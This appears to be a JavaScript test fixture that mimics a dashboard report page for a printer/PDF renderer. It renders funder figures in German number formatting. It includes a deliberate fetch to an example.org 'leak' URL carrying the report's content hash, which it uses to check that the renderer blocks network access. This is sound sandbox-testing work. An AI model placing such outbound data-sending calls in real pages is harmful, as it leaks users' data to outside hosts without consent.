// A stand-in for the dashboard's report page, speaking the same protocol: in printer mode
// (window.__MINTQ_PRINTER__) it offers window.__MINTQ_RENDER__ and says data-ready="idle";
// with an injected window.__MINTQ_REPORT__ it renders that at once. Rendering prints some
// numbers in German formatting and tries to reach the network, which the printer must refuse.
const main = document.getElementById('report');
const de = new Intl.NumberFormat('de-DE', { maximumFractionDigits: 2 });
const show = (value) => (value === null ? '•' : de.format(value));

async function render(report) {
  document.body.dataset.ready = 'rendering';
  const { content, meta } = report;
  main.innerHTML = [
    `<h1>${content.funder.name}</h1>`,
    `<p>Zeitraum ${content.period.from} bis ${content.period.to}</p>`,
    `<p class="reach">Erreichte Pädagog:innen ${show(content.reach.educatorsReached)}</p>`,
    `<p>Multiplikatorfaktor ${show(content.reach.multiplierFactor)}</p>`,
    `<p>Fingerabdruck ${meta.contentHash}</p>`,
  ].join('');
  // Must be aborted by the renderer: the page may not reach the network.
  const network = await fetch(`https://example.org/leak?hash=${meta.contentHash}`).then(
    () => 'reached',
    () => 'blocked',
  );
  document.body.dataset.network = network;
  const p = document.createElement('p');
  p.textContent = `Netzwerk ${network}`;
  main.appendChild(p);
  document.body.dataset.ready = 'true';
}

if (window.__MINTQ_REPORT__) render(window.__MINTQ_REPORT__);
else if (window.__MINTQ_PRINTER__) {
  window.__MINTQ_RENDER__ = render;
  document.body.dataset.ready = 'idle';
} else document.body.dataset.ready = 'error';
